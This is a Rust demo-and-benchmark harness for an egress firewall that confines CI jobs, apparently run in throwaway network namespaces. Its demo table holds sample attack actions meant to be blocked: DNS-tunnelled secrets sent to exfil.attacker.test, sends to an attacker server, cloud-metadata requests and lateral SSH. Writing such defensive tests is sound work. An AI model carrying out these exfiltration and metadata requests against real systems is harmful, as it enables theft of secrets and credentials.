//! `cargo xtask demo` and `cargo xtask bench`: the demo job and the
//! benchmarks, run in the test world (fresh network namespaces).

use std::{path::PathBuf, process::ExitCode, time::Duration};

use clap::{Parser, Subcommand};
use egret_common::{
    maps::{ExactKey, Learned},
    rules::{PortRule, PortRules, proto},
};
use egret_tests::{
    agent::{Agent, Pins},
    cgroup::TestCgroup,
    job,
    world::{self, World},
};

#[derive(Parser)]
#[command(about = "egret demo and benchmarks, inside network namespaces of their own")]
struct Lab {
    #[command(subcommand)]
    command: Command,
}

#[derive(Subcommand)]
enum Command {
    /// A scripted job against the demo policy: one allowed connection and
    /// each kind of denial, then the events the agent emitted.
    Demo {
        #[arg(long)]
        policy: PathBuf,
    },
    /// TCP connects/s from a job cgroup without egret and with egret holding
    /// 10,000 CIDRs and 10,000 exact IPs, measured side by side.
    /// Time from the start of `egret lockdown` to the first EPERM seen by a
    /// job that connects in a tight loop.
    BenchLockdown {
        #[arg(long, default_value_t = 50)]
        runs: u32,
    },
    /// Time to apply a policy of 10,000 CIDRs from scratch, and a one-line
    /// change to it, through `egret reload`.
    BenchReload {
        #[arg(long, default_value_t = 10)]
        runs: u32,
    },
    /// TCP bulk throughput from a job cgroup without egret and with egret,
    /// whose egress backstop sees every packet.
    BenchStream {
        #[arg(long, default_value_t = 6)]
        rounds: u32,
        /// Megabytes per round.
        #[arg(long, default_value_t = 400)]
        megabytes: u32,
    },
    BenchDns {
        /// Queries per second of the latency runs.
        #[arg(long, default_value_t = 5000)]
        rate: u64,
        /// Milliseconds per run.
        #[arg(long, default_value_t = 3000)]
        ms: u64,
        /// Clients of the throughput runs, each asking again once answered.
        #[arg(long, default_value_t = 16)]
        clients: u32,
        /// Rounds; each runs every path once, in turn.
        #[arg(long, default_value_t = 2)]
        rounds: u32,
        /// Ask the same name every time (lets dnsmasq merge identical
        /// queries in flight).
        #[arg(long)]
        one_name: bool,
    },
    BenchConnect {
        /// Alternating rounds per side.
        #[arg(long, default_value_t = 12)]
        rounds: u32,
        /// Connects per round.
        #[arg(long, default_value_t = 2000)]
        connects: u32,
    },
}

fn main() -> ExitCode {
    if !nix::unistd::geteuid().is_root() {
        eprintln!(
            "egret-lab needs root: it creates network namespaces and cgroups and loads BPF programs"
        );
        return ExitCode::from(2);
    }
    match Lab::parse().command {
        Command::Demo { policy } => demo(&policy),
        Command::BenchConnect { rounds, connects } => bench_connect(rounds, connects),
        Command::BenchLockdown { runs } => bench_lockdown(runs),
        Command::BenchReload { runs } => bench_reload(runs),
        Command::BenchStream { rounds, megabytes } => bench_stream(rounds, megabytes),
        Command::BenchDns {
            rate,
            ms,
            clients,
            rounds,
            one_name,
        } => bench_dns(rate, ms, clients, rounds, one_name),
    }
}

struct Step {
    action: &'static str,
    what: &'static str,
    allowed: bool,
}

const STEPS: &[Step] = &[
    Step {
        action: "tcp:203.0.113.10:443",
        what: "the forge, gitlab.test, on 443 (allowed by CIDR)",
        allowed: true,
    },
    Step {
        action: "tcp:203.0.113.20:443",
        what: "registry.test on 443 (allowed by name)",
        allowed: true,
    },
    Step {
        action: "dns-connect:registry.test:A:443:udp@203.0.113.53:53",
        what: "registry.test looked up by the job, then reached",
        allowed: true,
    },
    Step {
        action: "dns-connect:files.pkg.test:A:443:udpc@198.51.100.66:53",
        what: "a wildcard name, via whatever resolver the job asks",
        allowed: true,
    },
    Step {
        action: "tcp:203.0.113.10:80",
        what: "the forge on port 80 (wrong port)",
        allowed: false,
    },
    Step {
        action: "dns:c2VjcmV0LXRva2Vu.exfil.attacker.test:TXT:udp@198.51.100.66:53",
        what: "secrets in a DNS query name (DNS tunnelling)",
        allowed: false,
    },
    Step {
        action: "tcp:198.51.100.66:443",
        what: "an attacker's server (not in the policy)",
        allowed: false,
    },
    Step {
        action: "udp-sendto:198.51.100.66:443",
        what: "unconnected UDP to the attacker (exfiltration)",
        allowed: false,
    },
    Step {
        action: "tcp:169.254.169.254:80",
        what: "cloud metadata over IPv4",
        allowed: false,
    },
    Step {
        action: "tcp:[fd00:ec2::254]:80",
        what: "cloud metadata over IPv6",
        allowed: false,
    },
    Step {
        action: "tcp:[::ffff:169.254.169.254]:80",
        what: "cloud metadata, IPv4-mapped on an IPv6 socket",
        allowed: false,
    },
    Step {
        action: "tcp:10.0.0.5:22",
        what: "a neighbour VM on the runner's network (lateral)",
        allowed: false,
    },
];

fn demo(policy: &std::path::Path) -> ExitCode {
    println!("egret demo: building the test world in fresh network namespaces");
    let world = World::new();
    println!(
        "  host 192.0.2.2 -> internet: gitlab.test {}, registry.test {}, attacker {}, metadata {} / {}; neighbour VM {}",
        world::GITLAB,
        world::REGISTRY,
        world::ATTACKER,
        world::METADATA,
        world::METADATA6,
        world::NEIGHBOUR
    );
    let mut cgroup = match TestCgroup::named("egret-demo") {
        Ok(c) => c,
        Err(e) => {
            eprintln!("egret demo: {e}");
            return ExitCode::from(2);
        }
    };
    cgroup.child("ci");
    let pins = Pins::new(&world);
    let agent = Agent::start(&world, &pins, policy, &[]);
    println!(
        "agent: enforcing {} (runner ci, cgroup /egret-demo/ci)",
        policy.display()
    );

    let actions: Vec<&str> = STEPS.iter().map(|s| s.action).collect();
    let outcomes = job::run(&world.host, Some(&cgroup.procs("ci")), &actions);
    println!("job (pid {}) in /egret-demo/ci:", outcomes[0].pid);
    let mut unexpected = 0;
    let width = STEPS.iter().map(|s| s.action.len()).max().unwrap_or(0);
    for (step, o) in STEPS.iter().zip(&outcomes) {
        let refused = o.rcode.as_deref() == Some("Refused");
        let (verdict, detail) = match (o.ok() && !refused, o.eperm() || refused) {
            (_, true) if refused => (
                "DENIED ",
                "REFUSED by the runner's DNS proxy, never forwarded".to_owned(),
            ),
            (true, _) => (
                "ALLOWED",
                format!("reached \"{}\"", o.banner.as_deref().unwrap_or("")),
            ),
            (_, true) => (
                "DENIED ",
                "EPERM at connect()/sendto(), nothing sent".to_owned(),
            ),
            _ => ("ERROR  ", o.error.clone().unwrap_or_default()),
        };
        let expected = if step.allowed {
            o.ok() && !refused
        } else {
            o.eperm() || refused
        };
        if !expected {
            unexpected += 1;
        }
        println!(
            "  {verdict} {:<width$} {:<52} {detail}{}",
            step.action,
            step.what,
            if expected { "" } else { "   <-- UNEXPECTED" }
        );
    }

    let denials = STEPS.iter().filter(|s| !s.allowed).count();
    let pid = outcomes[0].pid;
    agent.wait_events(Duration::from_secs(5), |events| {
        (events.iter().filter(|e| e["pid"] == pid).count() >= denials).then_some(())
    });
    println!("events the agent emitted (stdout, one JSON object per line):");
    let events = agent.events();
    for e in &events {
        println!("  {e}");
    }
    if events.len() != denials {
        println!(
            "  expected {denials} events, got {}   <-- UNEXPECTED",
            events.len()
        );
        unexpected += 1;
    }
    drop(agent);
    drop(pins);
    drop(cgroup);
    drop(world);
    println!("cleaned up: agent stopped, programs detached, cgroup and namespaces removed");
    if unexpected == 0 {
        println!("egret demo: every outcome as expected");
        ExitCode::SUCCESS
    } else {
        println!("egret demo: {unexpected} unexpected outcome(s)");
        ExitCode::from(1)
    }
}

fn bench_connect(rounds: u32, connects: u32) -> ExitCode {
    const CIDRS: u32 = 10_000;
    const EXACT: u32 = 10_000;
    let world = World::new();
    // Benchmarks open many short connections; give the host namespace the
    // whole ephemeral range.
    world_sysctl(&world, "net.ipv4.ip_local_port_range", "1024 65535");
    let mut cgroup = TestCgroup::new("egret-bench");
    let bare = cgroup.child("bare");
    let guarded = cgroup.child("egret");

    let mut allow =
        String::from("      - cidr: 203.0.113.0/24\n        ports: [9000]\n        proto: tcp\n");
    for i in 0..CIDRS {
        allow.push_str(&format!(
            "      - cidr: 11.{}.{}.0/24\n        ports: [443]\n",
            i / 256,
            i % 256
        ));
    }
    let (pins, _agent) = guard(&world, "bench", &guarded, &format!("    allow:\n{allow}"));
    let loaded = load_exact_ips(&pins, EXACT);
    println!(
        "egret bench connect: {CIDRS} CIDRs in the policy, {loaded} exact IPs in the learned map"
    );
    println!(
        "target {} (a listener that accepts and closes), {rounds} alternating rounds of {connects} connects",
        world::BENCH_SINK
    );
    let _ = bare;

    let action = format!("connect-loop:{}:{connects}", world::BENCH_SINK);
    let (mut bare_rates, mut egret_rates) = (Vec::new(), Vec::new());
    for _ in 0..rounds {
        for (rel, rates) in [("bare", &mut bare_rates), ("egret", &mut egret_rates)] {
            let o = job::one(&world.host, Some(&cgroup.procs(rel)), &action);
            assert!(o.ok(), "{rel}: {o:?}");
            rates.push(f64::from(connects) / (o.elapsed_ns.expect("elapsed") as f64 / 1e9));
        }
    }
    let (b, e) = (median(&mut bare_rates), median(&mut egret_rates));
    println!("  without egret: {b:>9.0} connects/s (median of {rounds})");
    println!("  with egret:    {e:>9.0} connects/s (median of {rounds})");
    println!(
        "  ratio:         {:>9.1}% of the bare rate (target >= 95%)",
        100.0 * e / b
    );
    ExitCode::SUCCESS
}

fn bench_lockdown(runs: u32) -> ExitCode {
    let world = World::new();
    world_sysctl(&world, "net.ipv4.ip_local_port_range", "1024 65535");
    let mut cgroup = TestCgroup::new("egret-bench");
    let guarded = cgroup.child("ci");
    let (_pins, _agent) = guard(
        &world,
        "ci",
        &guarded,
        "    allow:\n      - cidr: 203.0.113.10/32\n        ports: [9000]\n",
    );
    let action = format!("until-eperm:{}:5000", world::BENCH_SINK);
    let mut latencies = Vec::new();
    let mut cut_runs = 0;
    for _ in 0..runs {
        let running = job::start(&world.host, Some(&cgroup.procs("ci")), &[&action]);
        // Let the job get into its loop first.
        std::thread::sleep(Duration::from_millis(30));
        let start = egret::resolver::monotonic_ns();
        let out = egret_tests::agent::cli(&world, &["lockdown", "--runner", "ci"]);
        assert_eq!(out.code, 0, "{}", out.stderr);
        let o = running.wait().remove(0);
        assert!(o.ok(), "{o:?}");
        if o.others.unwrap_or(0) > 0 {
            cut_runs += 1;
        }
        latencies.push(
            o.elapsed_ns
                .expect("first EPERM time")
                .saturating_sub(start),
        );
        assert_eq!(egret_tests::agent::cli(&world, &["unlock"]).code, 0);
    }
    latencies.sort_unstable();
    let ms = |ns: u64| ns as f64 / 1e6;
    println!(
        "egret bench lockdown: {runs} runs, from `egret lockdown` starting to the job's first EPERM"
    );
    println!(
        "  median {:.2} ms, p90 {:.2} ms, worst {:.2} ms (target: median < 10 ms)",
        ms(latencies[latencies.len() / 2]),
        ms(latencies[latencies.len() * 9 / 10]),
        ms(*latencies.last().expect("runs > 0"))
    );
    println!(
        "  runs where a connect in flight had its handshake cut first (timed out after 100 ms, then EPERM): {cut_runs}"
    );
    ExitCode::SUCCESS
}

fn bench_reload(runs: u32) -> ExitCode {
    const ENTRIES: u32 = 10_000;
    let world = World::new();
    let mut cgroup = TestCgroup::new("egret-bench");
    let guarded = cgroup.child("ci");
    let head = format!("version: 1\nrunners:\n  - name: ci\n    cgroup: {guarded}\n    allow:\n");
    let mut big = head.clone();
    for i in 0..ENTRIES {
        big.push_str(&format!(
            "      - cidr: 11.{}.{}.0/24\n        ports: [443]\n",
            i / 256,
            i % 256
        ));
    }
    let one_more = format!("{big}      - cidr: 12.0.0.0/24\n        ports: [443]\n");
    let policy = world.path("bench.yaml");
    let empty = format!("{head}      []\n");
    world::write_file(&policy, &empty);
    let pins = Pins::new(&world);
    let agent = Agent::start(&world, &pins, &policy, &[]);
    let reload = |text: &str| -> Duration {
        world::write_file(&policy, text);
        let start = std::time::Instant::now();
        let out = egret_tests::agent::cli(&world, &["reload"]);
        let took = start.elapsed();
        assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
        // Let the file watcher see this version too before the next change,
        // so its own reload does not overlap the next measurement.
        std::thread::sleep(Duration::from_millis(600));
        took
    };
    let (mut scratch, mut delta) = (Vec::new(), Vec::new());
    for _ in 0..runs {
        reload(&empty);
        scratch.push(reload(&big));
        delta.push(reload(&one_more));
        delta.push(reload(&big));
    }
    // The agent's own split of the last reloads: parsing and validating the
    // files against applying the result.
    let split: Vec<String> = agent
        .logs()
        .lines()
        .filter(|l| l.contains("policy reloaded"))
        .map(|l| {
            l.split_whitespace()
                .filter(|w| w.starts_with("load_ms=") || w.starts_with("apply_ms="))
                .collect::<Vec<_>>()
                .join(" ")
        })
        .collect();
    drop(agent);
    scratch.sort_unstable();
    delta.sort_unstable();
    let ms = |d: &Duration| d.as_secs_f64() * 1000.0;
    println!(
        "egret bench reload: `egret reload` round trips (parse, validate, compile, diff-sync), {runs} runs"
    );
    println!(
        "  {ENTRIES} CIDRs from scratch: median {:.1} ms, worst {:.1} ms (target < 1000 ms)",
        ms(&scratch[scratch.len() / 2]),
        ms(scratch.last().expect("runs"))
    );
    println!(
        "  one-line change:          median {:.1} ms, worst {:.1} ms (target < 50 ms)",
        ms(&delta[delta.len() / 2]),
        ms(delta.last().expect("runs"))
    );
    println!(
        "  inside the agent, the last reloads: {}",
        split
            .iter()
            .rev()
            .take(3)
            .cloned()
            .collect::<Vec<_>>()
            .join("; ")
    );
    ExitCode::SUCCESS
}

fn bench_stream(rounds: u32, megabytes: u32) -> ExitCode {
    let world = World::new();
    let mut cgroup = TestCgroup::new("egret-bench");
    cgroup.child("bare");
    let guarded = cgroup.child("egret");
    let (_pins, _agent) = guard(
        &world,
        "bench",
        &guarded,
        "    allow:\n      - cidr: 203.0.113.10/32\n        ports: [9001]\n",
    );
    let action = format!("bulk:{}:{megabytes}", world::BENCH_DISCARD);
    let (mut bare, mut guarded_rates) = (Vec::new(), Vec::new());
    for _ in 0..rounds {
        for (rel, rates) in [("bare", &mut bare), ("egret", &mut guarded_rates)] {
            let o = job::one(&world.host, Some(&cgroup.procs(rel)), &action);
            assert!(o.ok(), "{rel}: {o:?}");
            let secs = o.elapsed_ns.expect("elapsed") as f64 / 1e9;
            rates.push(f64::from(megabytes) * 8.0 / 1000.0 / secs);
        }
    }
    let (b, e) = (median(&mut bare), median(&mut guarded_rates));
    println!(
        "egret bench stream: TCP bulk over the test world's veth, {rounds} alternating rounds of {megabytes} MB"
    );
    println!("  without egret:            {b:>7.2} Gbit/s (median)");
    println!("  with egret (backstop on): {e:>7.2} Gbit/s (median)");
    println!(
        "  ratio:                    {:>7.1}% (target >= 97%)",
        100.0 * e / b
    );
    ExitCode::SUCCESS
}

/// The benchmark upstream: the default zone served from memory.
const FAST_DNS: &str = "203.0.113.54";
/// Every query asks a different name, as a build resolving its many
/// dependencies does, so no forwarder can merge identical queries in flight.
const LOAD_NAME: &str = "q{n}.bench.test";
const FLOOD_NAME: &str = "c{c}-q{n}.bench.test";
/// dnsmasq on the host's loopback, forwarding to [`FAST_DNS`].
const DNSMASQ: &str = "127.0.0.1:5300";

fn bench_dns(rate: u64, ms: u64, clients: u32, rounds: u32, one_name: bool) -> ExitCode {
    let (load_name, flood_name) = if one_name {
        ("same.bench.test", "same.bench.test")
    } else {
        (LOAD_NAME, FLOOD_NAME)
    };
    let mut world = World::new();
    world.start_fast_dns(FAST_DNS);
    let mut cgroup = TestCgroup::new("egret-bench");
    let guarded = cgroup.child("egret");
    let (_pins, _agent) = guard(
        &world,
        "bench",
        &guarded,
        &format!(
            "    dns:\n      upstream: [{FAST_DNS}]\n    allow:\n      - host: \"*.bench.test\"\n        ports: [443]\n"
        ),
    );
    let Some(dnsmasq) = which_dnsmasq() else {
        eprintln!("dnsmasq not found: `cargo xtask setup` installs dnsmasq-base");
        return ExitCode::from(2);
    };
    let mut cmd = std::process::Command::new(dnsmasq);
    cmd.args([
        "--keep-in-foreground",
        "--no-resolv",
        "--no-hosts",
        "--no-daemon",
        "--bind-interfaces",
        "--listen-address=127.0.0.1",
        "--port=5300",
        // A forwarder like the proxy: no cache to answer from.
        "--cache-size=0",
        "--dns-forward-max=1000",
        "--pid-file=",
        "--user=root",
        "--log-facility=-",
        &format!("--server={FAST_DNS}"),
    ])
    .stdin(std::process::Stdio::null())
    .stdout(std::process::Stdio::null())
    .stderr(std::process::Stdio::null());
    let mut dnsmasq = world.host.spawn(&mut cmd, None);
    std::thread::sleep(Duration::from_millis(500));

    let upstream = format!("{FAST_DNS}:53");
    // (label, cgroup, server the client asks)
    let paths: [(&str, Option<&str>, &str); 3] = [
        ("upstream directly", None, &upstream),
        ("dnsmasq forwarder", None, DNSMASQ),
        ("egret DNS proxy", Some("egret"), &upstream),
    ];
    let mut results: Vec<PathSamples> = (0..paths.len()).map(|_| PathSamples::default()).collect();
    for _ in 0..rounds {
        for (i, (label, rel, server)) in paths.iter().enumerate() {
            let procs = rel.map(|r| cgroup.procs(r));
            let load = job::one(
                &world.host,
                procs.as_deref(),
                &format!("dns-load:{rate}:{ms}:{load_name}:{server}"),
            );
            assert!(load.ok(), "{label}: {load:?}");
            let flood = job::one(
                &world.host,
                procs.as_deref(),
                &format!("dns-flood:{ms}:{clients}:{flood_name}:{server}"),
            );
            assert!(flood.ok(), "{label}: {flood:?}");
            let r = &mut results[i];
            r.p50_us.push(load.p50_ns.unwrap_or(0) as f64 / 1000.0);
            r.p99_us.push(load.p99_ns.unwrap_or(0) as f64 / 1000.0);
            r.qps.push(flood.qps.unwrap_or(0) as f64);
            r.lost += load.count.unwrap_or(0) - load.oks.unwrap_or(0);
        }
    }
    let _ = dnsmasq.kill();
    let _ = dnsmasq.wait();

    println!(
        "egret bench dns: A queries {} under an allowed *.bench.test, {rounds} rounds; latency at {rate} queries/s for {ms} ms, throughput with {clients} clients",
        if one_name {
            "all for one name"
        } else {
            "each for another name"
        }
    );
    println!(
        "  {:<20} {:>10} {:>10} {:>12} {:>8}",
        "path", "p50 (us)", "p99 (us)", "queries/s", "lost"
    );
    let mut medians = Vec::new();
    for ((label, _, _), r) in paths.iter().zip(results.iter_mut()) {
        let m = (
            median(&mut r.p50_us),
            median(&mut r.p99_us),
            median(&mut r.qps),
        );
        println!(
            "  {label:<20} {:>10.0} {:>10.0} {:>12.0} {:>8}",
            m.0, m.1, m.2, r.lost
        );
        medians.push(m);
    }
    println!(
        "  added by the proxy: p50 {:+.0} us, p99 {:+.0} us (target: p99 under 1000 us)",
        medians[2].0 - medians[0].0,
        medians[2].1 - medians[0].1
    );
    println!(
        "  throughput, proxy / dnsmasq: {:.0}% (target >= 100%)",
        100.0 * medians[2].2 / medians[1].2.max(1.0)
    );
    ExitCode::SUCCESS
}

/// What the runs of one path measured.
#[derive(Default)]
struct PathSamples {
    p50_us: Vec<f64>,
    p99_us: Vec<f64>,
    qps: Vec<f64>,
    lost: u64,
}

fn which_dnsmasq() -> Option<PathBuf> {
    ["/usr/sbin/dnsmasq", "/usr/bin/dnsmasq", "/sbin/dnsmasq"]
        .iter()
        .map(PathBuf::from)
        .find(|p| p.exists())
}

/// Writes a policy of one runner, `name` at `cgroup` with the given
/// settings (indented YAML lines), and starts an agent enforcing it.
/// Bind the pair so the agent drops first: `let (pins, agent) = ...`.
fn guard(world: &World, name: &str, cgroup: &str, settings: &str) -> (Pins, Agent) {
    let policy = world.path("bench.yaml");
    world::write_file(
        &policy,
        &format!("version: 1\nrunners:\n  - name: {name}\n    cgroup: {cgroup}\n{settings}"),
    );
    let pins = Pins::new(world);
    let agent = Agent::start(world, &pins, &policy, &[]);
    (pins, agent)
}

fn world_sysctl(world: &World, key: &str, value: &str) {
    let path = format!("/proc/sys/{}", key.replace('.', "/"));
    let mut cmd = std::process::Command::new("sh");
    cmd.args(["-c", &format!("echo '{value}' > {path}")]);
    let status = world.host.spawn(&mut cmd, None).wait().expect("sysctl");
    assert!(status.success(), "setting {key} in the host namespace");
}

/// Fills the pinned learned-IP map the way the agent would, so the kernel
/// programs run against 10,000 exact entries.
fn load_exact_ips(pins: &Pins, count: u32) -> usize {
    let mut maps = egret::datapath::Maps::from_pins(&egret::datapath::Pins::new(&pins.bpffs))
        .expect("open pinned maps");
    let (_, record) = maps
        .runner_records()
        .into_iter()
        .find(|(n, _)| n == "bench")
        .expect("bench runner is pinned");
    let mut rules = PortRules {
        count: 1,
        ..Default::default()
    };
    rules.rules[0] = PortRule::new(443, 443, proto::TCP);
    let expires_ns = egret::resolver::monotonic_ns() + Duration::from_secs(3600).as_nanos() as u64;
    for i in 0..count {
        let ip = std::net::Ipv4Addr::new(12, (i >> 16) as u8, (i >> 8) as u8, i as u8);
        let key = ExactKey {
            runner: record.id,
            addr: egret::datapath::addr_of(ip.into()),
        };
        maps.learned
            .insert(key, Learned { expires_ns, rules }, 0)
            .expect("insert learned");
    }
    maps.count_learned(record.id)
}

fn median(v: &mut [f64]) -> f64 {
    v.sort_by(f64::total_cmp);
    v[v.len() / 2]
}
